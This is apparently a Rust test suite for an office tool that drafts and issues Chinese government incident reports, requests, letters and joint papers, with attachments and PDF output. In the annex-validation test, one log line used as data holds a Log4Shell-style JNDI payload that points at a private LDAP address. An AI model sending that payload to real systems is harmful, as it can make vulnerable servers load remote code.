//! 附件 bound behind a paper, what is asked for in a 请示 or a 函, papers that several bodies issue together: through the desk.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

mod office;

use desk::view::{AnnexDraft, DocumentRow, ProgressInput, ReportDraft, ReportEditor};
use office::{Office, pages_of, ransomware};

fn incident(office: &mut Office) -> String {
    office.set_clock(31);
    office.register("malicious_program", ransomware(), Some(2))
}

fn complete(draft: ReportDraft) -> ReportDraft {
    ReportDraft { telephone: "6700 0000".into(), reviewer: "周玥".into(), signer: "赵堃".into(), ..draft }
}

fn annex(name: &str, source: &str, text: &str) -> AnnexDraft {
    AnnexDraft { name: name.into(), source: source.into(), text: text.into() }
}

/// As the window does where something is drawn from the record: it is shown before it is signed.
fn shown(office: &mut Office, draft: &ReportDraft) -> ReportDraft {
    office.desk.report_refill(draft).unwrap()
}

fn issued(editor: ReportEditor) -> DocumentRow {
    editor.issued.unwrap()
}

fn progress(office: &mut Office, id: &str, minute: i64, text: &str) {
    office.set_clock(minute);
    let input =
        ProgressInput { incident_id: id.into(), at: office.minute(minute).to_rfc3339(), text: text.into(), time_reason: String::new() };
    office.desk.note_progress(&input).unwrap();
}

fn blocking(office: &mut Office, draft: &ReportDraft) -> Vec<(String, String)> {
    let checks = office.desk.report_check(draft).unwrap();
    checks.into_iter().filter(|c| c.blocks).map(|c| (c.field, c.message)).collect()
}

#[test]
fn what_is_bound_behind_a_paper_is_named_set_and_frozen_with_it() {
    let mut office = Office::chongqing();
    let id = incident(&mut office);
    progress(&mut office, &id, 40, "断开受感染主机的网络连接\u{1F6A8}");
    let mut draft = complete(office.desk.report_open(&id).unwrap().draft);
    draft.attachments = vec![
        annex("机房布线图", "", ""),
        annex("应急处置经过", "course", ""),
        annex("受影响终端", "text", "一、位置\n均在6层。\n编号\t使用人\nA01\t张三\nA02\t李四"),
        annex("", "", ""),
    ];
    assert_eq!(blocking(&mut office, &draft), [], "what was recorded goes out whatever characters it bears");
    assert_eq!(office.desk.report_issue(&draft).unwrap_err().code, "report.annex_changed", "nobody signs what was not shown");
    let draft = shown(&mut office, &draft);
    let paper = issued(office.desk.report_issue(&draft).unwrap());
    let bytes = office.desk.document_pdf(&paper.id).unwrap();
    let pages = pages_of(&bytes);
    let body = pages[..pages.len() - 2].concat();
    for name in ["附件：1.机房布线图", "2.应急处置经过", "3.受影响终端"] {
        assert!(body.contains(name), "{name}: {body}");
    }
    let (course, text) = (&pages[pages.len() - 2], &pages[pages.len() - 1]);
    assert!(course.starts_with("附件2应急处置经过") && course.contains("断开受感染主机的网络连接□（U+1F6A8）。"), "{course}");
    assert!(text.starts_with("附件3受影响终端一、位置均在6层。编号使用人A01张三A02李四"), "{text}");

    // What happens later is no part of it, nor of a copy that is set again.
    progress(&mut office, &id, 50, "恢复业务");
    assert_eq!(office.desk.document_pdf(&paper.id).unwrap(), bytes);
    let mut office = office.restart();
    let begun = office.desk.paper_from(&paper.id, "", "补写恢复情况").unwrap();
    let told: Vec<&str> = begun.checks.iter().filter(|c| c.field == "attachments:2").map(|c| c.message.as_str()).collect();
    assert!(told.len() == 1 && told[0].contains("与原来那份不同"), "{told:?}");
    let corrected = begun.draft;
    let kept: Vec<(&str, &str)> = corrected.attachments.iter().map(|a| (a.name.as_str(), a.source.as_str())).collect();
    assert_eq!(kept, [("机房布线图", ""), ("应急处置经过", "course"), ("受影响终端", "text")]);
    let second = issued(office.desk.report_issue(&corrected).unwrap());
    let bytes = office.desk.document_pdf(&second.id).unwrap();
    let pages = pages_of(&bytes);
    assert!(pages[pages.len() - 2].contains("恢复业务。"), "a correction is drawn from the case as it stands: {pages:?}");
}

#[test]
fn what_the_record_adds_after_it_was_checked_is_shown_before_it_is_signed() {
    let mut office = Office::chongqing();
    let new = desk::view::NewOperator {
        name: "赵堃".into(),
        post: "处长".into(),
        role: "responsible".into(),
        passphrase: office::HEAD_PASSPHRASE.into(),
    };
    let rows = office.desk.add_operator(&new).unwrap();
    let head = rows.iter().find(|r| r.name == "赵堃").unwrap().id.clone();
    let liaison = rows.iter().find(|r| r.name == "李喆").unwrap().id.clone();
    let id = incident(&mut office);
    progress(&mut office, &id, 40, "断开网络");
    let mut draft = complete(office.desk.report_open(&id).unwrap().draft);
    draft.attachments = vec![annex("应急处置经过", "course", "")];
    let draft = shown(&mut office, &draft);
    let step =
        |draft: &ReportDraft, step: &str| desk::view::PaperStepInput { draft: draft.clone(), step: step.into(), note: String::new() };
    office.desk.paper_step(&step(&draft, "sent")).unwrap();
    office.desk.switch_operator(&head, office::HEAD_PASSPHRASE).unwrap();
    let checked = office.desk.paper_step(&step(&draft, "checked")).unwrap();
    assert!(!checked.way.changed_since_check);
    office.desk.switch_operator(&liaison, office::PASSPHRASE).unwrap();
    progress(&mut office, &id, 50, "恢复业务");
    office.desk.switch_operator(&head, office::HEAD_PASSPHRASE).unwrap();
    let stale = office.desk.report_issue(&checked.draft).unwrap_err();
    assert_eq!((stale.code.as_str(), stale.field.as_deref()), ("report.annex_changed", Some("attachments")));
    let seen = office.desk.report_open(&id).unwrap();
    assert!(seen.way.changed_since_check, "what was checked is not what will be signed");
    let paper = issued(office.desk.report_issue(&seen.draft).unwrap());
    let bytes = office.desk.document_pdf(&paper.cover.unwrap()).unwrap();
    assert!(pages_of(&bytes).concat().contains("其后改过正文"));
}

#[test]
fn a_numbered_copy_of_an_annexed_paper_is_set_again_from_what_was_frozen() {
    let mut office = Office::chongqing();
    let id = incident(&mut office);
    let style = desk::view::PageStyleView { copy_numbers: true, ..office.desk.page_style_view().unwrap() };
    office.desk.set_page_style(&style).unwrap();
    progress(&mut office, &id, 40, "封存日志\u{1F6A8}");
    let mut draft = complete(office.desk.report_open(&id).unwrap().draft);
    draft.attachments = vec![annex("应急处置经过", "course", "")];
    let draft = shown(&mut office, &draft);
    let paper = issued(office.desk.report_issue(&draft).unwrap());
    let seventh = office.desk.document_pdf_copy(&paper.id, 7).unwrap();
    let pages = pages_of(&seventh);
    assert!(pages[0].starts_with("000007") && pages.last().unwrap().starts_with("附件应急处置经过"), "{pages:?}");
}

#[test]
fn an_annex_without_name_or_content_stops_the_paper_and_says_which() {
    let mut office = Office::chongqing();
    let id = incident(&mut office);
    let mut draft = complete(office.desk.report_open(&id).unwrap().draft);
    let row = vec!["甲"; 13].join("\t");
    draft.attachments = vec![
        annex("说明。", "", ""),
        annex("", "text", "一段。"),
        annex("空的", "text", " \n"),
        annex("证据清单", "evidence", ""),
        annex("太宽", "text", &format!("{row}\n{row}")),
        annex("夹带", "text", "请予支援。"),
        annex("文号", "text", "见金稳〔2026〕01号。"),
        annex("表情", "text", "现场\u{1F600}"),
        annex("台账", "ledger", ""),
    ];
    let told = blocking(&mut office, &draft);
    for (field, part) in [
        ("attachments", "附件名称后面不加标点"),
        ("attachments:2", "附件2没有名称"),
        ("attachments:3", "附件3没有内容"),
        ("attachments:4", "证据库里还没有本事件的证据"),
        ("attachments:5", "13列"),
        ("attachments:6", "报告不得夹带请示事项"),
        ("attachments:7", "发文字号的序号不加零"),
        ("attachments:9", "附件9没有内容"),
        ("glyph", "U+1F600"),
    ] {
        assert!(told.iter().any(|(f, m)| f == field && m.contains(part)), "{field} {part}: {told:?}");
    }
    // What a log has in braces is nobody's to reword; a word of a wording that was left is.
    let with = |text: &str, opening: &str| ReportDraft {
        attachments: vec![annex("日志", "text", text)],
        opening: opening.into(),
        ..draft.clone()
    };
    let log = "GET /?x=${jndi:ldap://10.0.0.1/a} {\"user\":\"张三\"}";
    assert_eq!(blocking(&mut office, &with(log, log)), []);
    assert_eq!(blocking(&mut office, &with(log, "请{主送}办理。"))[0].0, "opening");
    // It is shown nevertheless: what is missing is seen.
    draft.attachments.truncate(7);
    let preview = office.desk.report_preview(&draft).unwrap();
    let pages = pages_of(&preview).concat();
    assert!(pages.contains("附件2待查一段。") && pages.contains("附件3空的待查。"), "{pages}");
}

#[test]
fn a_draft_that_an_older_program_kept_opens_with_its_names() {
    let mut office = Office::chongqing();
    let id = incident(&mut office);
    let draft = complete(office.desk.report_open(&id).unwrap().draft);
    let mut json = serde_json::to_value(&draft).unwrap();
    json["attachments"] = serde_json::json!(["证据清单", "现场照片"]);
    json.as_object_mut().unwrap().remove("joint");
    let old: ReportDraft = serde_json::from_value(json).unwrap();
    assert_eq!(old, ReportDraft { attachments: vec![annex("证据清单", "", ""), annex("现场照片", "", "")], ..draft });
}

#[test]
fn the_years_report_bears_the_years_ledger_on_its_side() {
    let mut office = Office::chongqing();
    incident(&mut office);
    let mut draft = complete(office.desk.report_open_as("", "annual_statistics", "").unwrap().draft);
    draft.addressee = "应急工作组".into();
    draft.sections.iter_mut().find(|s| s.id == "analysis").unwrap().text = "加强培训。".into();
    draft.attachments = vec![annex("2026年网络安全事件台账", "ledger", "")];
    let draft = shown(&mut office, &draft);
    office.set_clock(45);
    let paper = issued(office.desk.report_issue(&draft).unwrap());
    let bytes = office.desk.document_pdf(&paper.id).unwrap();
    let last = pages_of(&bytes).pop().unwrap();
    assert!(last.contains("附件2026年网络安全事件台账") && last.contains("2026-001"), "{last}");
    let path = office.folder.path().join("paper.pdf");
    std::fs::write(&path, &bytes).unwrap();
    let sizes = std::process::Command::new("pdfinfo").args(["-l", "99"]).arg(path).output().unwrap();
    let sizes = String::from_utf8(sizes.stdout).unwrap();
    let turned = sizes.lines().rfind(|l| l.contains("rot:")).unwrap();
    let wide = sizes.lines().rfind(|l| l.contains("size:")).unwrap();
    assert!(turned.contains("90") || turned.contains("270") || wide.contains("841.89 x"), "{turned} {wide}");
}

#[test]
fn what_a_report_may_not_ask_for_is_asked_in_a_request_or_a_letter() {
    let mut office = Office::chongqing();
    let id = incident(&mut office);
    let head = desk::view::PageStyleView {
        form: "red_head".into(),
        mark: vec!["重庆市地方金融监督管理局".into()],
        mark_suffix: "文件".into(),
        code: "渝金".into(),
        letter_code: "渝金函".into(),
        ..office.desk.page_style_view().unwrap()
    };
    office.desk.set_page_style(&head).unwrap();
    let report = complete(office.desk.report_open(&id).unwrap().draft);
    let report = ReportDraft { opening: format!("{}各单位。", report.opening), ..report };
    let report = ReportDraft { support: "请市网安总队派2名取证人员今日到场。".into(), ..report };
    office.desk.report_save(&report).unwrap();
    let early = office.desk.report_open_as(&id, "support_letter", "").unwrap().draft;
    assert!(early.sections.iter().any(|s| s.text == report.support), "what a draft keeps is asked for too: {early:?}");
    office.desk.report_issue(&report).unwrap();

    let request = complete(office.desk.report_open_as(&id, "support_request", "").unwrap().draft);
    let ask = |draft: &ReportDraft| draft.sections.iter().find(|s| s.id == "ask").unwrap().text.clone();
    assert_eq!(ask(&request), "请市网安总队派2名取证人员今日到场。");
    assert_eq!(request.unit, "重庆市地方金融监督管理局", "whose head it bears signs it");
    assert!(request.opening.contains("我局发现") && !request.opening.contains("我处"), "and speaks: {}", request.opening);
    assert_eq!((request.addressee.as_str(), request.closing.as_str()), ("应急工作组", "妥否，请批示。"));
    let paper = issued(office.desk.report_issue(&request).unwrap());
    let bytes = office.desk.document_pdf(&paper.id).unwrap();
    let first = pages_of(&bytes).remove(0);
    assert!(first.contains("签发人：赵堃") && first.contains("文件"), "a request goes up as a document: {first}");

    let letter = complete(office.desk.report_open_as(&id, "support_letter", "").unwrap().draft);
    assert!(letter.title.starts_with("关于商请协助处置") && letter.title.ends_with("的函"), "{}", letter.title);
    assert_eq!(blocking(&mut office, &letter), [("addressee".into(), "主送没有填".into())], "to whom it goes is a person's to say");
    let letter = ReportDraft { addressee: "市网安总队".into(), ..letter };
    let unknown = ReportDraft {
        sections: letter.sections.iter().cloned().map(|s| desk::view::ReportSection { text: "待查。".into(), ..s }).collect(),
        ..letter.clone()
    };
    assert_eq!(blocking(&mut office, &unknown)[0].0, "section:ask");
    let paper = issued(office.desk.report_issue(&letter).unwrap());
    assert_eq!((paper.number.as_str(), paper.kind_name.as_str()), ("渝金函〔2026〕1号", "商请协助函"), "a series of its own");
    let bytes = office.desk.document_pdf(&paper.id).unwrap();
    let pages = pages_of(&bytes);
    assert!(!pages[0].contains("文件渝金") && !pages[0].contains("签发人") && !pages[0].contains("—1—"), "信函格式: {}", pages[0]);
    // A correction of it calls itself what it is.
    let corrected = office.desk.paper_from(&paper.id, "", "改到场时间").unwrap().draft;
    let second = issued(office.desk.report_issue(&corrected).unwrap());
    let bytes = office.desk.document_pdf(&second.id).unwrap();
    assert!(pages_of(&bytes).concat().contains("本函为更正函（第2版），替代渝金函〔2026〕1号"));

    // The request is answered by whoever got it; one's own is not answered here.
    let offers = office.desk.papers_offered(&id).unwrap();
    let reply = offers.iter().find(|o| o.kind.id == "support_reply").unwrap();
    assert!(!reply.ready && reply.reason == "由收到请示的一方答复", "{}", reply.reason);
    // What a later report keeps to be asked for goes before what was asked already.
    let mut later = office.desk.report_open_as(&id, "follow_up_report", "").unwrap().draft;
    later.support = "请再派1名恢复人员。".into();
    office.desk.report_save(&later).unwrap();
    let second = office.desk.report_open_as(&id, "support_request", "").unwrap().draft;
    assert_eq!(ask(&second), "请再派1名恢复人员。");
}

#[test]
fn bodies_that_issue_a_paper_together_stand_in_its_head_and_sign_it() {
    let mut office = Office::chongqing();
    let id = incident(&mut office);
    let head = desk::view::PageStyleView {
        form: "red_head".into(),
        mark: vec!["重庆市地方金融监督管理局".into()],
        mark_suffix: "文件".into(),
        ..office.desk.page_style_view().unwrap()
    };
    office.desk.set_page_style(&head).unwrap();
    let draft = complete(office.desk.report_open(&id).unwrap().draft);
    let joint = |names: &str| ReportDraft { joint: names.into(), signer: "赵堃、钱进".into(), ..draft.clone() };
    let told = blocking(&mut office, &joint("发展中心、发展中心"));
    assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("写了两次")), "{told:?}");
    let told = blocking(&mut office, &joint("甲、乙、丙、丁、戊、己"));
    assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("超过6个")), "{told:?}");
    let told = blocking(&mut office, &joint("重庆市地方金融监督管理局"));
    assert!(told.iter().any(|(f, _)| f == "joint"), "the head's own name is no other: {told:?}");
    let told = blocking(&mut office, &joint(&"长".repeat(61)));
    assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("超过60个字")), "{told:?}");
    let told = blocking(&mut office, &joint("相关处室"));
    assert!(told.iter().any(|(f, m)| f == "joint" && m.contains("泛称")), "{told:?}");
    let remarks = |draft: &ReportDraft, office: &mut Office| {
        office.desk.report_check(draft).unwrap().into_iter().filter(|c| !c.blocks).map(|c| c.field).collect::<Vec<_>>()
    };
    let by_two = joint("发展中心，综合处");
    assert!(remarks(&by_two, &mut office).contains(&"signer".to_owned()), "three bodies, two signers");
    assert!(!remarks(&by_two, &mut office).contains(&"unit".to_owned()));
    let by_office = ReportDraft { unit: "金融稳定处".into(), ..by_two.clone() };
    assert!(remarks(&by_office, &mut office).contains(&"unit".to_owned()), "head and 署名 are two bodies");
    let paper = issued(office.desk.report_issue(&by_two).unwrap());
    let bytes = office.desk.document_pdf(&paper.id).unwrap();
    let pages = pages_of(&bytes);
    let all = pages.concat();
    for part in ["重庆市地方金融监督管理局", "发展中心", "综合处", "签发人：赵堃", "钱进"] {
        assert!(pages[0].contains(part), "{part}: {}", pages[0]);
    }
    let signed = all.split("特此报告。").nth(1).unwrap();
    for unit in ["重庆市地方金融监督管理局", "发展中心", "综合处"] {
        assert!(signed.contains(unit), "{unit}: {signed}");
    }
}
